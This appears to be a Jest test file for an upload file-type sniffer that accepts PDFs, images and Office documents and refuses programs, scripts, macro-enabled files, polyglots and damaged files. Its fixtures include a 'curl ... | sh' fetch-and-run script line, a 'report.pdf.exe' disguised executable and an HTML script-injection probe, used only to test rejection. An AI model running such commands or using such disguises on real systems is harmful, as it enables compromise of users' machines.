import { Workbook } from 'exceljs';
import { bufferSource } from '../common/byte-source';
import { EVIDENCE_FILE_TYPES, nameContradicts, sniffFileType } from './file-type-sniffer';
import {
  compoundFileOf,
  sampleDocx,
  sampleGif,
  sampleJpegHead,
  samplePdf,
  samplePng,
  samplePptx,
  sampleWebp,
  windowsProgram,
  zipOf,
} from './sample-files.fixture';

const sniff = (bytes: Buffer) => sniffFileType(bufferSource(bytes));
const contentTypeOf = (bytes: Buffer) => {
  const result = sniff(bytes);
  return result.accepted ? result.type.contentType : `refused: ${result.reason}`;
};

describe('sniffFileType', () => {
  it.each([
    ['a PDF', samplePdf(), 'application/pdf'],
    ['a PNG', samplePng(), 'image/png'],
    ['a JPEG', sampleJpegHead(), 'image/jpeg'],
    ['a GIF', sampleGif(), 'image/gif'],
    ['a WebP', sampleWebp(), 'image/webp'],
    ['a Word document', sampleDocx(), EVIDENCE_FILE_TYPES.docx.contentType],
    ['a PowerPoint presentation', samplePptx(), EVIDENCE_FILE_TYPES.pptx.contentType],
    ['a Word 97-2003 document', compoundFileOf(['WordDocument']), 'application/msword'],
    ['an Excel 97-2003 workbook', compoundFileOf(['Workbook']), 'application/vnd.ms-excel'],
    ['an Excel 5 workbook', compoundFileOf(['Book']), 'application/vnd.ms-excel'],
    ['a PowerPoint 97-2003 presentation', compoundFileOf(['PowerPoint Document', 'Current User']), 'application/vnd.ms-powerpoint'],
  ])('recognises %s by its content', (_what, bytes, contentType) => {
    expect(contentTypeOf(bytes)).toBe(contentType);
  });

  it('recognises an Excel workbook as exceljs writes it', async () => {
    const workbook = new Workbook();
    workbook.addWorksheet('Places').addRow(['2025/26', 96]);
    const bytes = Buffer.from(await workbook.xlsx.writeBuffer());
    expect(contentTypeOf(bytes)).toBe(EVIDENCE_FILE_TYPES.xlsx.contentType);
  });

  it.each([
    ['a Windows program', windowsProgram(), /Windows program \(MZ\/PE\)/],
    ['a Linux program', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...Array(56).fill(0)]), /Linux program \(ELF\)/],
    ['a 64-bit macOS program', Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, ...Array(24).fill(0)]), /macOS program \(Mach-O\)/],
    ['a 32-bit big-endian macOS program', Buffer.from([0xfe, 0xed, 0xfa, 0xce, ...Array(28).fill(0)]), /macOS program \(Mach-O\)/],
    ['a universal macOS program', Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2, ...Array(24).fill(0)]), /Mach-O/],
    ['a shell script', Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n'), /script/],
    ['a ZIP that is not an Office file', zipOf({ 'report.pdf.exe': windowsProgram() }), /ZIP archive, not an Office document/],
    ['a Java archive', zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil\n', 'Evil.class': Buffer.from([0xca, 0xfe, 0xba, 0xbe]) }), /ZIP archive/],
    ['a macro-enabled Word file', zipOf({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>', 'word/vbaProject.bin': 'x' }), /macro-enabled/],
    ['a macro-enabled legacy Excel file', compoundFileOf(['Workbook', '_VBA_PROJECT_CUR']), /macro-enabled/],
    ['an Office package of no known kind', zipOf({ '[Content_Types].xml': '<Types/>', 'visio/document.xml': '<v/>' }), /not a Word, Excel or PowerPoint/],
    ['an OLE2 file that is an installer', compoundFileOf(['SummaryInformation', '䡀㼿䕲䓤䠨']), /installer/],
    ['a ZIP whose directory is cut off', sampleDocx().subarray(0, 200), /directory is damaged/],
    ['an OLE2 file cut after its header', compoundFileOf(['WordDocument']).subarray(0, 600), /structure is damaged/],
    ['plain text', Buffer.from('Minutes of the SEND Improvement Board'), /not a PDF, an Office document or a PNG/],
    ['HTML', Buffer.from('<html><script>alert(1)</script></html>'), /not a PDF/],
    ['an empty file', Buffer.alloc(0), /empty/],
  ])('refuses %s', (_what, bytes, reason) => {
    const result = sniff(bytes);
    expect(result.accepted).toBe(false);
    expect(!result.accepted && result.reason).toMatch(reason);
  });

  it('refuses a program even when its bytes also contain a PDF header', () => {
    const polyglot = Buffer.concat([windowsProgram(), samplePdf()]);
    expect(contentTypeOf(polyglot)).toMatch(/refused: .*Windows program/);
  });

  it('does not take a PNG signature without its header chunk for a PNG', () => {
    expect(contentTypeOf(samplePng().subarray(0, 10))).toMatch(/^refused/);
  });

  it('follows a directory chain that loops back on itself only once', () => {
    const looping = compoundFileOf(['WordDocument']);
    looping.writeUInt32LE(1, 512 + 4); // the directory sector's next sector is itself
    expect(contentTypeOf(looping)).toMatch(/structure is damaged/);
  });
});

describe('nameContradicts', () => {
  it.each([
    ['report.pdf', 'pdf', false],
    ['REPORT.PDF', 'pdf', false],
    ['photo.jpeg', 'jpeg', false],
    ['photo.JPG', 'jpeg', false],
    ['minutes', 'pdf', false],
    ['chart.pdf', 'png', true],
    ['report.pdf.exe', 'pdf', true],
    ['plan.doc', 'docx', true],
    ['plan.docx', 'doc', true],
  ] as const)('%s for %s content contradicts it: %s', (name, type, contradicts) => {
    expect(nameContradicts(name, EVIDENCE_FILE_TYPES[type])).toBe(contradicts);
  });
});
